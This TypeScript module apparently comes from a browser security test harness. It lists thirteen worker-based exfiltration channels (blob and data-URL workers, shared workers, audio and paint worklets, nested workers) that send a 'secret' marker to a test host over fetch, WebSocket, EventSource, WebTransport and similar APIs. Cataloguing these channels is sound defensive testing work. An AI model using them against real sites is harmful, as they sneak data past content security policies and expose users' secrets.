import type { Channel } from "./channel.ts";

interface PaintCss {
  paintWorklet: { addModule(url: string): Promise<void> };
}

export const WORKERS: readonly Channel[] = [
  {
    id: "worker_blob_fetch",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`fetch("${t.base}/c?secret=1",{mode:"no-cors"})`)),
  },
  {
    id: "worker_blob_import",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`importScripts("${t.base}/js?secret=1")`)),
  },
  {
    id: "worker_blob_ws",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`new WebSocket("${t.socket}/c?secret=1")`)),
  },
  {
    id: "worker_data_fetch",
    family: "worker",
    entry: 19,
    attack: (t) =>
      new Worker(`data:text/javascript,fetch("${t.base}/c?secret=1",{mode:"no-cors"})`),
  },
  {
    id: "worker_remote",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(`${t.base}/js?secret=1`),
  },
  {
    id: "sharedworker_blob",
    family: "worker",
    entry: 20,
    attack: (t) => new SharedWorker(t.blob(`fetch("${t.base}/c?secret=1",{mode:"no-cors"})`)),
  },
  {
    id: "audioworklet",
    family: "worker",
    entry: 21,
    attack: (t) => new AudioContext().audioWorklet.addModule(`${t.base}/js?secret=1`),
  },
  {
    id: "paintworklet",
    family: "worker",
    entry: 21,
    attack: (t) => (CSS as unknown as PaintCss).paintWorklet.addModule(`${t.base}/js?secret=1`),
  },
  {
    id: "worker_module_import",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`import "${t.base}/js?secret=1"`), { type: "module" }),
  },
  {
    id: "worker_eventsource",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`new EventSource("${t.base}/sse?secret=1")`)),
  },
  {
    id: "worker_webtransport",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`new WebTransport("https://${t.host}:${t.udp}/secret")`)),
  },
  {
    id: "worker_socket_stream",
    family: "worker",
    entry: 19,
    attack: (t) => new Worker(t.blob(`new WebSocketStream("${t.socket}/c?secret=1")`)),
  },
  {
    id: "worker_nested",
    family: "worker",
    entry: 19,
    attack: (t) => {
      const inner = `fetch("${t.base}/c?secret=1",{mode:"no-cors"})`;
      const outer = `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`;
      return new Worker(t.blob(outer));
    },
  },
];
